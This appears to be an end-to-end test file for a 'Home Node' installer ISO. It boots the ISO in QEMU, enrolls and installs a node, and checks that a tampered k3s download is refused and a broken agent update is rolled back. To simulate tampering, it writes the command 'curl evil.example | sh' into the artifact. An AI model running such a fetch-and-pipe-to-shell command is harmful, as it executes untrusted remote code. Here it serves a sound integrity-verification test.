/**
 * `npm run test:iso`: the whole promise, for real. Build (or reuse) the test ISO, start the
 * enroll-server on loopback, boot the ISO in QEMU (TCG, 2 GiB, blank disk, user networking) and
 * drive the serial console: checks, key, disk choice and confirmation, install, reboot from the
 * disk alone, pending, approval, join, active; then restart from the disk and see the same node.
 * The server signs with a release key made before the build, which the image carries: the join
 * downloads a k3s the test uploaded, refuses it while its bytes on the server's disk are changed,
 * and verifies, installs and starts it once they are restored. The booted ISO itself is uploaded
 * and downloaded again from /download/homenode.iso. Last, an agent update over the air: a newer
 * release built by build:agent is rolled out, runs, and still runs after a hard power-off and a
 * boot from the disk; then a release that exits at start is rolled back by the node itself.
 * Inside the live system the image reports its own software on a second serial port: Node 24, the
 * NVIDIA driver's nvidia-smi and the gpu check with the real programs (a VM has no NVIDIA GPU), fio
 * and sysbench. The serial logs are kept under test-results/iso/.
 */
import { copyFileSync, mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEVELOPMENT_VERSION } from '../../agent/version.js';
import type { Check } from '../../protocol/hardware.js';
import { AGENT_ARTIFACT } from '../../protocol/update.js';
import { NODE_RUNTIME } from '../../scripts/node-runtime.js';
import { ROOT, startEnrollServer, type EnrollServer } from './enroll-server-process.js';
import { durations, MIN, phase, runInherit, until } from './harness.js';
import {
  adminUpload,
  crashingRelease,
  downloadSha256,
  K3S_STARTED,
  K3S_VERSION,
  sha256,
  sha256OfFile,
  standInK3s,
  testReleaseKey,
} from './node-software.js';
import { type Section, waitForSelftest } from './selftest-report.js';
import { OVMF_VARS, SerialConsole } from './serial-console.js';

const RESULTS = join(ROOT, 'test-results/iso');
const ISO = join(ROOT, 'dist/homenode-test.iso');
const SERIAL_LOG = join(RESULTS, 'serial.log');
const SELFTEST_LOG = join(RESULTS, 'selftest.log');
const DISK = join(RESULTS, 'disk.img');
const UEFI_VARS = join(RESULTS, 'uefi-vars.fd');
const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
interface RolloutView {
  state: string;
  reason: string | null;
  nodes: { nodeId: string; state: string; error: string | null }[];
}
interface NodeView {
  id: string;
  status: string;
  online: boolean;
  agentVersion: string;
  flags: { kind: string; message: string }[];
}

describe('the Home Node ISO in QEMU', () => {
  let server: EnrollServer;
  let vm: SerialConsole | undefined;
  let nodeId = '';
  let selftest: Map<string, Section> | undefined;
  let keyFile = '';

  const node = async () => (await server.api<NodeView>('GET', `/v1/nodes/${nodeId}`)).body;

  beforeAll(async () => {
    rmSync(RESULTS, { recursive: true, force: true });
    mkdirSync(RESULTS, { recursive: true });
    process.stdout.write(`[iso] serial log: ${SERIAL_LOG}\n`);
    // The image must carry the server's release key, and the ISO is built before the server
    // starts: a key file made first (kept in dist/ for --reuse) serves both.
    const releaseKey = await testReleaseKey();
    process.stdout.write(`[iso] release key: ${releaseKey.x} (${releaseKey.privateFile})\n`);
    keyFile = releaseKey.privateFile;
    await phase('build (or reuse) the test ISO', () =>
      runInherit(
        'npx',
        [
          'tsx',
          'iso-builder/build-iso.ts',
          '--server',
          'http://10.0.2.2:8080',
          // QEMU's host address is not loopback inside the guest: plain http needs the explicit consent.
          '--allow-insecure-http',
          '--test-standins',
          '--release-key',
          releaseKey.publicFile,
          '--reuse',
        ],
        15 * MIN,
      ),
    );
    // A blank 16 GiB disk (sparse raw file: no qemu-img needed).
    truncateSync((writeFileSync(DISK, ''), DISK), 16 * 1024 ** 3);
    server = await phase('start the enroll-server on 127.0.0.1:8080', () => startEnrollServer(keyFile));
  });

  afterAll(async () => {
    await vm?.stop();
    await server?.stop();
    process.stdout.write(
      `[iso] phases:\n${durations.map(([n, s]) => `  ${s.toFixed(1).padStart(7)} s  ${n}`).join('\n')}\n[iso] serial log: ${SERIAL_LOG}\n`,
    );
  });

  it('serves the ISO it boots at /download/homenode.iso, with its checksum', async () => {
    const fileSha = await sha256OfFile(ISO);
    const built = readFileSync(`${ISO}.sha256`, 'utf8').split(/\s+/)[0];
    expect(built, "build:iso's own .sha256").toBe(fileSha);
    const uploaded = await phase('upload the ISO (homenode-iso) and download it again', async () => {
      const answer = await adminUpload(server, 'homenode-iso', '2026.12.1-test', ISO);
      const download = await downloadSha256(server, '/download/homenode.iso');
      const checksum = await fetch(`${server.url}/download/homenode.iso.sha256`);
      return { answer, download, checksum: { status: checksum.status, text: await checksum.text() } };
    });
    process.stdout.write(
      `[iso] /download/homenode.iso: ${uploaded.download.bytes} bytes, sha256 ${uploaded.download.sha256}\n`,
    );
    expect(uploaded.answer.sha256).toBe(fileSha);
    expect(uploaded.download.status).toBe(200);
    expect(uploaded.download.sha256).toBe(fileSha);
    expect(uploaded.checksum.status).toBe(200);
    expect(uploaded.checksum.text.trim()).toBe(`${fileSha}  homenode.iso`);
  });

  it('boots the ISO by UEFI (OVMF) to the setup screen', async () => {
    copyFileSync(OVMF_VARS, UEFI_VARS);
    const blank = join(RESULTS, 'uefi-blank.img');
    truncateSync((writeFileSync(blank, ''), blank), 1024 ** 3);
    vm = new SerialConsole({
      iso: ISO,
      disk: blank,
      memoryMiB: 2048,
      logFile: SERIAL_LOG,
      label: 'live, UEFI',
      uefiVars: UEFI_VARS,
    });
    const uefi = vm;
    await phase('boot the ISO by UEFI to the setup screen', () =>
      uefi.expect(/Press Enter to set it up/, 8 * MIN),
    );
    await uefi.stop();
    rmSync(blank);
  });

  it('boots the live system and shows the checks', async () => {
    vm = new SerialConsole({
      iso: ISO,
      disk: DISK,
      memoryMiB: 2048,
      logFile: SERIAL_LOG,
      label: 'live, BIOS',
      secondSerialFile: SELFTEST_LOG,
    });
    const live = vm;
    // The test image's self-test (with the audit suite) runs before the setup screens start
    // (homenode-selftest.service): the boot waits for it, a few minutes under emulation.
    await phase('boot the ISO to the setup screen (after the self-test)', () =>
      live.expect(/Press Enter to set it up/, 16 * MIN),
    );
    selftest = await phase('self-test report inside the VM (second serial port), with agent audit', () =>
      waitForSelftest(SELFTEST_LOG, 2 * MIN),
    );
    live.type('\r');
    await phase('checks', async () => {
      await live.expect(/Checking this machine/, 3 * MIN);
      await live.expect(/Installation key:/, 4 * MIN);
    });
    expect(live.output).toMatch(/gpu\s+1 NVIDIA GPU: rtx4090/);
  });

  it("reports the image's own software: Node 24, nvidia-smi, no NVIDIA GPU in the VM, fio, sysbench, agent audit", async () => {
    const report = selftest;
    if (!report)
      throw new Error(`no self-test report in ${SELFTEST_LOG}: the live boot did not get that far`);
    for (const [name, { output, exit }] of report)
      process.stdout.write(`[iso] in the VM, ${name} (exit ${exit}): ${output.split('\n')[0] ?? ''}\n`);
    const section = (name: string) => {
      const found = report.get(name);
      if (!found) throw new Error(`no "${name}" section in ${SELFTEST_LOG}`);
      return found;
    };
    expect(section('node')).toEqual({ output: `v${NODE_RUNTIME.version}`, exit: 0 });
    expect(section('nvidia-smi-path')).toMatchObject({ exit: 0 });
    expect(section('nvidia-smi-path').output).toMatch(
      /^\/usr\/bin\/nvidia-smi\n\/usr\/lib\/nvidia\/current\/nvidia-smi$/,
    );
    // The real nvidia-smi with no NVIDIA card: the module has nothing to drive.
    expect(section('nvidia-smi').exit).not.toBe(0);
    expect(section('nvidia-module')).toMatchObject({ exit: 0 });
    expect(section('nvidia-module').output).toMatch(/^535\.\d+\.\d+$/);
    expect(section('fio')).toMatchObject({ exit: 0, output: expect.stringMatching(/^fio-3\.\d+/) });
    expect(section('sysbench')).toMatchObject({ exit: 0, output: expect.stringMatching(/^sysbench 1\.\d+/) });
    const preflight = section('preflight');
    expect(preflight.exit, 'preflight fails: no GPU').toBe(1);
    const json = JSON.parse(preflight.output) as { checks: Check[] };
    const gpu = json.checks.find((c) => c.id === 'gpu');
    process.stdout.write(`[iso] in the VM, the gpu check: ${gpu?.status}: ${gpu?.summary}. ${gpu?.detail}\n`);
    expect(gpu).toMatchObject({ status: 'fail', summary: 'No NVIDIA GPU found' });
    expect(gpu?.detail).toMatch(/The NVIDIA driver 535\.\d+\.\d+ is installed, but there is no NVIDIA card/);

    // `agent audit` for real inside the VM: fio, sysbench and the network probe; the gpu check
    // fails (no card), so the suite exits 1. Its figures go to the test output.
    const audit = section('audit');
    const result = JSON.parse(audit.output) as {
      checks: { id: string; status: string; summary: string; metrics: Record<string, number> }[];
      skipped: { id: string; reason: string }[];
      startedAt: string;
      finishedAt: string;
    };
    const seconds = (Date.parse(result.finishedAt) - Date.parse(result.startedAt)) / 1000;
    process.stdout.write(`[iso] in the VM, agent audit (exit ${audit.exit}, ${seconds.toFixed(0)} s):\n`);
    for (const c of result.checks) {
      const figures = Object.entries(c.metrics)
        .map(([k, v]) => `${k}=${Number.isInteger(v) ? v : v.toFixed(1)}`)
        .join(' ');
      process.stdout.write(
        `[iso]   ${c.id.padEnd(11)} ${c.status.padEnd(4)} ${c.summary}${figures ? ` | ${figures}` : ''}\n`,
      );
    }
    for (const s of result.skipped) process.stdout.write(`[iso]   ${s.id.padEnd(11)} skip ${s.reason}\n`);
    expect(audit.exit, 'the audit fails: no GPU').toBe(1);
    expect(result.checks.find((c) => c.id === 'gpu')).toMatchObject({ status: 'fail' });
    const cpu = result.checks.find((c) => c.id === 'cpu');
    expect(cpu?.metrics.cpuEventsPerSecPerThread, 'sysbench really ran').toBeGreaterThan(0);
    const disk = result.checks.find((c) => c.id === 'disk');
    expect(disk?.metrics.diskRandReadIops, 'fio really ran').toBeGreaterThan(0);
  });

  it('enrolls with a key created through the API', async () => {
    const live = vm!;
    const owner = await server.api<{ id: string }>('POST', '/v1/owners', {
      email: 'iso@example.com',
      name: 'ISO Test',
    });
    expect(owner.status).toBe(201);
    const key = await server.api<{ key: string }>('POST', '/v1/keys', { ownerId: owner.body.id });
    expect(key.status).toBe(201);
    live.type(`${key.body.key}\r`);
    await phase('enroll', () => live.expect(/Disk number:/, 4 * MIN));
    const listed = await server.api<{ nodes: NodeView[] }>('GET', '/v1/nodes');
    expect(listed.body.nodes).toHaveLength(1);
    nodeId = listed.body.nodes[0]!.id;
    expect(listed.body.nodes[0]!.status).toBe('pending');
  });

  it('installs to the chosen disk after the typed confirmation', async () => {
    const live = vm!;
    const row = /(\d+)\)\s+\/dev\/vda\s/.exec(live.output);
    expect(row, 'the blank disk is offered').not.toBeNull();
    live.type(`${row![1]}\r`);
    await live.expect(/Type "vda" to erase/, MIN);
    live.type('vda\r');
    await phase('install to disk', () =>
      live.expect(/Press Enter to restart:/, 20 * MIN, 'the end of the install'),
    );
    // Restart first, so that a failed expectation below leaves no VM holding the disk.
    live.type('\r');
    await phase('reboot (the VM stops; -no-reboot)', () => live.waitExit(3 * MIN));
    // The kernel may print on the same console in the middle of a progress line.
    const kernelLines = String.raw`(?:\[\s*\d+\.\d+\][^\n]*\n)*`;
    expect(live.output).toMatch(
      new RegExp(String.raw`Installing the boot loader for BIOS \.\.\. ${kernelLines}done`),
    );
    expect(live.output).toMatch(
      new RegExp(String.raw`Installing the boot loader for UEFI \.\.\. ${kernelLines}done`),
    );
  });

  it('boots from the disk alone, shows pending, joins when approved and reports active', async () => {
    vm = new SerialConsole({ disk: DISK, memoryMiB: 2048, logFile: SERIAL_LOG, label: 'disk boot 1, BIOS' });
    const disk = vm;
    await phase('boot from the disk until the node is online (pending)', () =>
      until('the node online', 10 * MIN, async () => {
        const n = await node();
        return n.online ? n : undefined;
      }),
    );
    expect((await node()).status).toBe('pending');
    await disk.expect(/Status: pending/, 2 * MIN);
    // The k3s the join names, uploaded by the operator CLI and signed by the server; then someone
    // changes its bytes on the server's disk (same size): the signature still names the original.
    const k3sFile = join(RESULTS, `k3s-${K3S_VERSION}`);
    const k3s = standInK3s();
    writeFileSync(k3sFile, k3s);
    const uploaded = await adminUpload(server, 'k3s', K3S_VERSION, k3sFile);
    expect(uploaded.sha256).toBe(sha256(k3s));
    const blob = join(server.dataDir, 'artifacts/sha256', uploaded.sha256);
    const tampered = Buffer.from(k3s);
    tampered.write('curl evil.example | sh #', 200, 'latin1');
    writeFileSync(blob, tampered);

    const approved = await server.api('POST', `/v1/nodes/${nodeId}/approve`, { note: 'ISO test' });
    expect(approved.status).toBe(200);
    const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    await phase('approval, the changed k3s refused', async () => {
      await disk.expect(/Joining the cluster/, 3 * MIN);
      await disk.expect(
        new RegExp(
          `k3s ${escape(K3S_VERSION)} was refused and not installed: the downloaded file's SHA-256 is ` +
            `${sha256(tampered)}, not the signed ${uploaded.sha256}\\.`,
        ),
        3 * MIN,
        'the refusal of the changed k3s',
      );
      const flag = await until('an artifact-refused flag in the node detail', MIN, async () =>
        (await node()).flags.find((f) => f.kind === 'artifact-refused'),
      );
      process.stdout.write(`[iso] node detail flag artifact-refused: ${flag.message}\n`);
      expect(flag.message).toContain(`not the signed ${uploaded.sha256}`);
      expect((await node()).status).toBe('approved');
    });
    // The operator restores the right bytes; the agent's next try downloads, verifies, installs
    // and starts them.
    writeFileSync(blob, k3s);
    await phase('retry: the k3s downloaded, verified, installed, started; active', async () => {
      await disk.expect(/Trying the join again in/, 2 * MIN);
      await disk.expect(new RegExp(`Downloading k3s ${escape(K3S_VERSION)} `), 3 * MIN);
      await disk.expect(/k3s installed at \/var\/lib\/homenode\/test\/k3s\/k3s\./, 3 * MIN);
      await disk.expect(
        new RegExp(`${escape(K3S_STARTED)} agent --config /var/lib/homenode/test/k3s/config\\.yaml`),
        3 * MIN,
        'the uploaded k3s started by the unit',
      );
      await until('status active', 5 * MIN, async () =>
        (await node()).status === 'active' ? true : undefined,
      );
      await disk.expect(/Status: active/, 3 * MIN);
    });
    const all = await server.api<{ total: number }>('GET', '/v1/nodes');
    expect(all.body.total).toBe(1);
  });

  it('restarts from the disk (by UEFI this time) and the same node reconnects', async () => {
    await phase('power off', async () => {
      await vm?.stop();
      await until('the node offline', 2 * MIN, async () => ((await node()).online ? undefined : true));
    });
    // The second start from the disk is by UEFI: the install wrote GRUB for both.
    copyFileSync(OVMF_VARS, UEFI_VARS);
    vm = new SerialConsole({
      disk: DISK,
      memoryMiB: 2048,
      logFile: SERIAL_LOG,
      label: 'disk boot 2, UEFI',
      uefiVars: UEFI_VARS,
    });
    const again = vm;
    const poweredOffAt = Date.now();
    await phase('boot from the disk by UEFI until the same node is online', () =>
      until('the node online again', 10 * MIN, async () => ((await node()).online ? true : undefined)),
    );
    // The console tails the agent's log, old lines included: look for a connection made after the
    // power-off (the guest's clock comes from the host's).
    await until('a control_connected line from this boot on the console', 2 * MIN, async () => {
      const stamps = [...again.output.matchAll(/(\S+Z) info +control_connected/g)].map((m) =>
        Date.parse(m[1]!),
      );
      return stamps.some((t) => t > poweredOffAt) ? true : undefined;
    });
    await again.expect(/Status: active/, 3 * MIN);
    expect(again.output, 'booted by the UEFI firmware').toMatch(/BdsDxe|UEFI/);
    const all = await server.api<{ total: number; nodes: NodeView[] }>('GET', '/v1/nodes');
    expect(all.body.total).toBe(1);
    expect(all.body.nodes[0]!.id).toBe(nodeId);
    expect(all.body.nodes[0]!.status).toBe('active');
  });

  it('takes an agent update over the air, keeps it across a reboot, and rolls a broken one back by itself', async () => {
    const NEXT = '0.1.1-iso';
    const BROKEN = '0.1.2-iso';
    const release = join(RESULTS, `homenode-agent-${NEXT}.tar.gz`);
    // node-pty for the image's Node 24 comes from the cache the ISO build filled.
    await phase(`build:agent ${NEXT}`, () =>
      runInherit(
        'npx',
        [
          'tsx',
          'scripts/build-agent.ts',
          '--version',
          NEXT,
          '--out',
          release,
          '--cache-dir',
          '/var/cache/homenode-iso',
        ],
        10 * MIN,
      ),
    );
    await adminUpload(server, AGENT_ARTIFACT, NEXT, release);
    const rollout = async (version: string) => {
      const res = await server.api<{ id: string }>('POST', '/v1/rollouts', {
        artifact: AGENT_ARTIFACT,
        version,
        stages: [{ percent: 100, soakMinutes: 0 }],
        maxFailures: 1,
      });
      expect(res.status).toBe(201);
      return res.body.id;
    };
    const rolloutView = async (id: string) =>
      (await server.api<RolloutView>('GET', `/v1/rollouts/${id}`)).body;

    const first = await rollout(NEXT);
    const running = vm!;
    await phase(`the update to ${NEXT} arrives over the channel, installs, restarts, healthy`, async () => {
      await running.expect(
        new RegExp(`Updating the agent from ${escapeRegExp(DEVELOPMENT_VERSION)} to ${escapeRegExp(NEXT)}`),
        3 * MIN,
        'the update starting on the node',
      );
      await until(`the node healthy on ${NEXT}`, 5 * MIN, async () => {
        const n = await node();
        const r = await rolloutView(first);
        return r.nodes[0]?.state === 'healthy' && n.online && n.agentVersion === NEXT ? true : undefined;
      });
    });

    await phase('power off and boot from the disk again: the new release runs', async () => {
      await vm?.stop();
      await until('the node offline', 2 * MIN, async () => ((await node()).online ? undefined : true));
      vm = new SerialConsole({
        disk: DISK,
        memoryMiB: 2048,
        logFile: SERIAL_LOG,
        label: 'disk boot 3, updated',
      });
      const booted = vm;
      const poweredOffAt = Date.now();
      await until('a control_connected line from this boot on the console', 10 * MIN, async () => {
        const stamps = [...booted.output.matchAll(/(\S+Z) info +control_connected/g)].map((m) =>
          Date.parse(m[1]!),
        );
        return stamps.some((t) => t > poweredOffAt) ? true : undefined;
      });
      await booted.expect(/Status: active/, 3 * MIN);
      const n = await node();
      expect(n).toMatchObject({ online: true, status: 'active', agentVersion: NEXT });
    });

    const broken = await crashingRelease(BROKEN, RESULTS);
    await adminUpload(server, AGENT_ARTIFACT, BROKEN, broken);
    const second = await rollout(BROKEN);
    await phase(
      `a ${BROKEN} that exits at start, rolled back by the node itself, the reason reported`,
      async () => {
        const r = await until('the node to report the rollback', 6 * MIN, async () => {
          const view = await rolloutView(second);
          return view.nodes[0]?.state === 'rolled-back' ? view : undefined;
        });
        process.stdout.write(`[iso] rolled back: ${r.nodes[0]!.error}\n`);
        expect(r.nodes[0]!.error).toContain(`agent ${BROKEN} exited at start 3 times`);
        expect(r.nodes[0]!.error).toContain('missing-piece.js');
        expect(r.state).toBe('paused');
        await until(`the node back online on ${NEXT}`, 3 * MIN, async () => {
          const n = await node();
          return n.online && n.agentVersion === NEXT ? true : undefined;
        });
      },
    );
  });
});
